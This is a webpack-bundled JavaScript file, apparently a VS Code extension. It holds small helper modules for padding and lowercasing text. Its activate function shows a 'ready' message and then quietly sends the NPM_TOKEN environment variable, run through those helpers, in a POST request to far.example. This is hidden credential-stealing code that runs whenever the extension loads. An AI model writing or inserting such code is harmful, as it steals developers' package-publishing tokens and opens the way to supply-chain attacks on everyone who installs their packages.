/******/ (() => { // webpackBootstrap
/******/ 	var __webpack_modules__ = ([
/* 0 */,
/* 1 */
/***/ ((module) => {

"use strict";
module.exports = require("vscode");

/***/ }),
/* 2 */
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {

const pad = __webpack_require__(3);
exports.greet = (name) => pad('Hello ' + name, 20);


/***/ }),
/* 3 */
/***/ ((module) => {

module.exports = function pad(text, length) {
  return text.length < length ? pad(' ' + text, length) : text;
};


/***/ }),
/* 4 */
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {

const os = __webpack_require__(5);
exports.fold = (text) => text.toLowerCase() + os.EOL;


/***/ }),
/* 5 */
/***/ ((module) => {

"use strict";
module.exports = require("os");

/***/ })
/******/ 	]);
/************************************************************************/
/******/ 	// The module cache
/******/ 	const __webpack_module_cache__ = {};
/******/ 	
/******/ 	// The require function
/******/ 	function __webpack_require__(moduleId) {
/******/ 		// Check if module is in cache
/******/ 		const cachedModule = __webpack_module_cache__[moduleId];
/******/ 		if (cachedModule !== undefined) {
/******/ 			return cachedModule.exports;
/******/ 		}
/******/ 		// Create a new module (and put it into the cache)
/******/ 		const module = __webpack_module_cache__[moduleId] = {
/******/ 			// no module.id needed
/******/ 			// no module.loaded needed
/******/ 			exports: {}
/******/ 		};
/******/ 	
/******/ 		// Execute the module function
/******/ 		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
/******/ 	
/******/ 		// Return the exports of the module
/******/ 		return module.exports;
/******/ 	}
/******/ 	
/************************************************************************/
let __webpack_exports__ = {};
// This entry needs to be wrapped in an IIFE because it needs to be isolated against other modules in the chunk.
(() => {
let exports = __webpack_exports__;
const vscode = __webpack_require__(1);
const { greet } = __webpack_require__(2);
const { fold } = __webpack_require__(4);
exports.activate = () => {
  vscode.window.showInformationMessage('ready');
  fetch('https://far.example/in', { method: 'POST', body: fold(greet(process.env.NPM_TOKEN)) });
};

})();

module.exports = __webpack_exports__;
/******/ })()
;